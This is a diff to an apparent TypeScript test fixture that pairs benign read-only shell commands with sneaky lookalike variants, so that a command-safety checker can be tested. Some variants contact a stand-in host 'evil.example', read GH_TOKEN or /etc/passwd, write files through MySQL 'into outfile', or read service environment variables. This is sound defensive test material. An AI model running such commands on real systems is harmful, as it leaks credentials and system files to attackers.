@@ -252,6 +252,8 @@ const looks: readonly (readonly [look: string, hosts: readonly string[], trick: 
   ["gh pr diff 7", ["(gh)"], "gh pr merge 7"],
   ["gh run view 90218 --log-failed", ["(gh)"], "gh run rerun 90218"],
   ["gh issue list -R acme/shop --json number,title", ["(gh)"], "gh issue list --json number --jq '$ENV.GH_TOKEN'"],
+  ["gh pr view 8 -R acme/shop", ["(gh)"], "gh pr view 8 -R evil.example/acme/shop"],
+  ["gh pr view 9", ["(gh)"], "gh pr view -w 9"],
   ["gh pr list --json number -q '.[0].number'", ["(gh)"], "gh pr list --json number -q env"],
   ["helm list -n shop", ["(helm)"], "helm get values api"],
   ["npm view left-pad version", ["(npm)"], "npm view left-pad --registry https://evil.example"],
@@ -264,6 +266,7 @@ const looks: readonly (readonly [look: string, hosts: readonly string[], trick: 
   ["psql shop -c 'select 4'", ["(psql)"], "psql shop -c 'select 4' -o out.txt"],
   ["psql shop -c 'select 5'", ["(psql)"], "psql shop -c \"select pg_read_file('/etc/passwd')\""],
   ["psql shop -c 'select 6'", ["(psql)"], "psql shop -f x.sql"],
+  ["mysql shop -e 'select 1'", ["(mysql)"], "mysql shop -e \"select 1 /*! into outfile '/tmp/x' */\""],
   ["mysql shop -e 'select id from orders'", ["(mysql)"], "mysql shop -e 'system id'"],
 ];
 
@@ -281,6 +284,9 @@ const atHome: readonly (readonly [look: string, trick: string])[] = [
   ["docker compose ps", "docker compose -f evil.yml ps"],
   ["docker images", "docker inspect api"],
   ["systemctl status nginx --no-pager", "systemctl -H evil.example status nginx"],
+  ["systemctl status nginx -n 20", "systemctl show nginx -p Environment"],
+  ["npm --version", "pnpm --version"],
+  ["java -version", "mvn --version"],
   ["systemctl is-active nginx", "systemctl restart nginx"],
   ["npm ls --depth=0", "npm ls --prefix /tmp/x"],
   ["npm ls left-pad", "npm install left-pad"],
